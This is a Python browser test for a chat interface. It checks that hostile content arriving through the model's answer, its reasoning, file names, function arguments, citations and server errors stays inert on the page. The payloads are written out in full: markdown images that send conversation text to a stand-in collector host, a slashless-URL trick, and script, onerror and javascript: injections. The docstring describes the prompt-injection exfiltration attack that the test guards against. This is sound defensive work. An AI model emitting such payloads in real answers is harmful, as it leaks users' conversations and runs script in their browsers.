"""A hostile corpus in real Chromium: nothing a model, a server, a file or a user
writes makes the browser fetch from another host, run script, or add elements.

The attack (issue 11): a prompt-injected answer containing
`![s](https://collector.example/p.png?d=<conversation text>)` makes every
viewer's browser fetch that URL as soon as the answer is shown, and again each
time the conversation is reopened. Here every channel that reaches the page
carries such payloads at once: the user's message (also the conversation's
title in the sidebar), an uploaded file's name, the model's reasoning, answer
and refusal, a web citation's title and address, a function's name and
arguments, a generated file's and a chart's names, and a server's error message. The page is
watched while the answer streams and again after a reload (from storage):
every request the page makes, every dialog, and the elements the payloads try
to plant.

`https:collector.example` (no slashes) is what a browser reads as
`https://collector.example/`: it lets a file name, which cannot hold `/`, carry
a remote address too.
"""

from __future__ import annotations

import base64
import re
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, Request, expect

from assistants_ui.core.safe_markdown import WORD_JOINER
from browser_support import StartApp, send
from fakes.responses_routes import (
    ResponseScript,
    add_container_file,
    container_file_citation,
    error_stream,
    url_citation,
)
from fakes.server import FakeOpenAI, Stream

pytestmark = pytest.mark.browser

EVIL = "collector.example"

# Every payload; each line of the answer is one construct.
IMAGES = (
    "Inline ![inline](https://collector.example/inline.png?d=secret) image.\n\n"
    "Reference ![reference][r] image, defined later.\n\n"
    "[r]: https://collector.example/reference.png\n\n"
    "Protocol-relative ![relative](//collector.example/relative.png).\n\n"
    "| table | cell |\n|---|---|\n| ![in table](https://collector.example/table.png) | x |\n\n"
    "- list\n  - ![in list](https://collector.example/list.png)\n\n"
    "> quote\n> > ![in quote](https://collector.example/quote.png)\n\n"
    "[![in link](https://collector.example/linked.png)](https://ok.example/)\n\n"
    "!<https://collector.example/bang.png> and ![slashless](https:collector.example)\n\n"
)
HTML = (
    '<img id="planted-img" src="https://collector.example/raw.png" '
    'onerror="window.__pwned=1;alert(1)">\n\n'
    '<div id="planted-div" class="planted" style="background:url(//collector.example/bg.png)">'
    "x</div>\n\n"
    "Inline <script>window.__pwned=2</script> <iframe src=https://collector.example/f>"
    "</iframe> <svg onload=alert(3)></svg> <link rel=stylesheet href=//collector.example/s.css>\n\n"
    "[javascript link](javascript:alert(4)) [data link](data:text/html,<script>alert(5)</script>)"
    " <javascript:alert(6)> [vb][v]\n\n[v]: vbscript:msgbox\n\n"
    "&lt;img src=https://collector.example/entity.png&gt; $![m](https://collector.example/m.png)$"
    " :red[colour] :material/warning:\n\nEND-OF-ANSWER"
)
ANSWER = IMAGES + HTML
FILE_NAME = "notes ![f](https:collector.example) <img src=https:collector.example> a`b.txt"
CHART_NAME = (
    "chart ![c](https:collector.example) <img id=planted-chart src=x onerror=alert(13)>.png"
)
# A 1x1 PNG: the code interpreter's chart, named by the model.
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)
MADE_NAME = "made ![g](https:collector.example) <img id=planted-made src=x onerror=alert(7)>.csv"
FUNCTION = "lookup`![fn](https:collector.example)`<img src=x onerror=alert(8)>"
ARGUMENTS = '{"q": "![arg](https://collector.example/arg.png) <img src=x onerror=alert(9)>"}'
CITE_TITLE = "Docs](https://x.example) ![t](https://collector.example/t.png) <img src=x>"
CITE_URL = "https://ok.example/a) ![u](//collector.example/u.png"
USER_TEXT = (
    "Hi ![user](https://collector.example/user.png) <img src=https://collector.example/u2.png>"
)
REASONING = "Thinking ![why](https://collector.example/reasoning.png) <img src=x onerror=alert(10)>"
REFUSAL = "No ![refusal](https://collector.example/refusal.png) <img src=x onerror=alert(11)>"
SERVER_ERROR = (
    "overloaded ![err](https://collector.example/error.png) <img src=x onerror=alert(12)>"
)


class Watch:
    """Every request and dialog of a page, from before it loads."""

    def __init__(self, page: Page, origin: str) -> None:
        self.origin = origin
        self.requests: list[str] = []
        self.dialogs: list[str] = []
        page.on("request", self._request)
        page.on("dialog", self._dialog)

    def _request(self, request: Request) -> None:
        self.requests.append(request.url)

    def _dialog(self, dialog: object) -> None:
        self.dialogs.append(str(getattr(dialog, "message", dialog)))
        dialog.dismiss()  # type: ignore[attr-defined]

    def off_host(self) -> list[str]:
        return [
            url
            for url in self.requests
            if not url.startswith((self.origin + "/", "data:", "blob:")) and url != self.origin
        ]


def assert_inert(page: Page, watch: Watch) -> None:
    """Nothing fetched elsewhere, no dialog, no script ran, nothing planted."""
    assert watch.off_host() == [], watch.off_host()
    assert watch.dialogs == []
    assert page.evaluate("window.__pwned") is None
    planted = (
        "#planted-img, #planted-div, .planted, #planted-made, #planted-chart,"
        " iframe, object, embed, svg[onload]"
    )
    assert page.locator(planted).count() == 0
    assert page.locator("[onerror], [onload], [onclick]").count() == 0
    origin = watch.origin
    sources = page.eval_on_selector_all(
        "img[src], script[src], link[href], source[src], video[src], audio[src]",
        "els => els.map(e => [e.src || e.href, e.outerHTML.slice(0, 200)])",
    )
    for src, html in sources:
        assert src.startswith((origin + "/", "data:", "blob:")), html
    for href in page.eval_on_selector_all("a[href]", "els => els.map(e => e.href)"):
        assert urlsplit(href).scheme in ("http", "https", "mailto"), href


def answer_script(fake: FakeOpenAI, *, hang: bool = False) -> list[Stream]:
    """First round: reasoning and a call to a function that is not there; second: the
    answer, a citation, a generated file, and a refusal. With `hang`, the answer stops
    arriving (without ending) just before its last line, so the page is checked while
    it is certainly still streaming."""
    made = add_container_file(fake, "cntr_evil", MADE_NAME, b"a,b\n1,2\n")
    chart = add_container_file(fake, "cntr_evil", CHART_NAME, PNG)
    chart_url = f"{fake.base_url}/containers/cntr_evil/files/{chart}/content"
    link = f"[{MADE_NAME}](sandbox:/mnt/data/{MADE_NAME})"
    text = ANSWER + " Get " + link + "."
    pieces = [text[i : i + 40] for i in range(0, len(text), 40)]
    at = text.index("Inline ![inline]")
    first = ResponseScript().reasoning([[REASONING]]).function_call(FUNCTION, ARGUMENTS)
    second = (
        ResponseScript()
        .code_interpreter(["plot()"], images=[chart_url], container_id="cntr_evil")
        .text(
            pieces,
            annotations=[
                url_citation(CITE_URL, CITE_TITLE, at, at + 6),
                container_file_citation(
                    "cntr_evil", made, MADE_NAME, text.index(link), text.index(link) + len(link)
                ),
            ],
        )
        .refusal([REFUSAL])
        .sse()
    )
    if hang:
        deltas = [n for n, e in enumerate(second) if e.data["type"].endswith("text.delta")]
        last = deltas[text.index("END-OF-ANSWER") // 40]  # the delta that starts it
        return [first.stream(), Stream(second, done_marker=False, hang_after=last)]
    return [first.stream(), Stream(second, done_marker=False, delay=0.01)]


def test_hostile_corpus_stays_inert_live_and_from_history(
    page: Page, start_app: StartApp, fake: FakeOpenAI
) -> None:
    fake.expect("responses.create", *answer_script(fake, hang=True))
    fake.expect("responses.create", *answer_script(fake))
    fake.expect("responses.create", error_stream(SERVER_ERROR, "server_error"))
    url = start_app(
        {
            "OPENAI_BASE_URL": fake.base_url,
            "OPENAI_API_KEY": "sk-test",
            "OPENAI_API": "responses",
            "OPENAI_MODEL": "gpt-test",
        }
    )
    watch = Watch(page, url)
    page.goto(url)
    box = page.get_by_test_id("stChatInputTextArea")
    box.wait_for(timeout=30_000)
    page.locator("[data-testid='stChatInput'] input[type='file']").set_input_files(
        files=[{"name": FILE_NAME, "mimeType": "text/plain", "buffer": b"hello"}]
    )
    # Its chip in the box: sent before it shows, the file went with the next message.
    chip = page.get_by_test_id("stChatInput").get_by_text("b.txt", exact=False)
    expect(chip.first).to_be_visible(timeout=30_000)
    send(page, USER_TEXT)

    # Live: the answer has arrived up to its last line and is still streaming.
    main = page.get_by_role("main")
    expect(main.get_by_text("javascript link", exact=False)).to_be_visible(timeout=30_000)
    stop = page.get_by_role("button", name="Stop")
    expect(stop).to_be_visible()
    assert main.get_by_text("END-OF-ANSWER").count() == 0
    assert_inert(page, watch)
    stop.click()
    expect(stop).to_have_count(0, timeout=30_000)

    # The whole answer: citations, the generated file and the refusal come at its end.
    send(page, "Again, all of it")
    expect(main.get_by_text("END-OF-ANSWER")).to_be_visible(timeout=60_000)
    expect(stop).to_have_count(0, timeout=30_000)
    check_the_page_shows_the_payloads(page)
    assert_inert(page, watch)

    # A server error carrying the same payloads.
    send(page, "Once more")
    expect(main.get_by_text("overloaded", exact=False)).to_be_visible(timeout=30_000)
    assert_inert(page, watch)

    # From history: the reload paints everything again from storage.
    assert "c=" in page.url
    page.reload()
    expect(main.get_by_text("END-OF-ANSWER")).to_be_visible(timeout=30_000)
    expect(main.get_by_text("overloaded", exact=False)).to_be_visible()
    expect(main.get_by_text("Stopped: the answer above", exact=False)).to_be_visible()
    check_the_page_shows_the_payloads(page)
    assert_inert(page, watch)
    assert any(u.startswith(url) for u in watch.requests)  # the watch saw the page's own


def check_the_page_shows_the_payloads(page: Page) -> None:
    """The payloads are on the page, as text and as links that show their host."""
    main = page.get_by_role("main").get_by_role("group", name="Chat message from assistant")
    main = main.filter(has_text="END-OF-ANSWER")  # the whole answer, not the stopped one
    user = page.get_by_role("group", name="Chat message from user").first
    # An image becomes a link the user may open, its host in its text.
    inline = main.get_by_role("link", name=f"🖼 inline ({EVIL})")
    expect(inline).to_have_attribute("href", "https://collector.example/inline.png?d=secret")
    for alt in ("reference", "relative", "in table", "in list", "in quote", "slashless"):
        expect(main.get_by_role("link", name=f"🖼 {alt} ({EVIL})")).to_have_count(1)
    expect(main.get_by_role("link", name=f"🖼 in link ({EVIL})")).to_have_attribute(
        "href", "https://ok.example/"
    )
    # Raw HTML and refused links are shown as the text they are.
    expect(main.get_by_text('<img id="planted-img"', exact=False)).to_be_visible()
    expect(main.get_by_text("<script>window.__pwned=2</script>", exact=False)).to_be_visible()
    expect(main.get_by_text("javascript link", exact=False)).to_be_visible()
    # Names shown literally: the uploaded file, the function, the generated file.
    expect(user.get_by_text(FILE_NAME, exact=False)).to_be_visible()
    expect(main.get_by_text(re.compile(re.escape("lookup`![fn]")))).to_have_count(1)
    expect(main.get_by_role("button", name=re.compile(re.escape("made ![g]")))).to_be_visible()
    expect(main.get_by_test_id("stImageCaption")).to_have_text(CHART_NAME)
    expect(main.locator("img")).to_have_count(1)  # the chart itself, served by the app
    # The user's own text is shown exactly as typed: plain text, no link, no image.
    expect(user.get_by_test_id("stText")).to_have_text(USER_TEXT)
    expect(user.locator("a, img")).to_have_count(0)
    # The citation's title is one link, to the address as given (encoded), nothing more.
    # Shown literally: a word joiner keeps an address in the title from becoming a link.
    source = main.get_by_role("link", name=CITE_TITLE.replace("://", f":{WORD_JOINER}//"))
    expect(source).to_have_count(1)
    assert (source.get_attribute("href") or "").startswith("https://ok.example/a)")
    # The conversation's title in the sidebar is the user's text, literally.
    sidebar = page.get_by_test_id("stSidebar")
    expect(sidebar.get_by_role("button", name=re.compile(r"^Hi !\[user\]"))).to_be_visible()
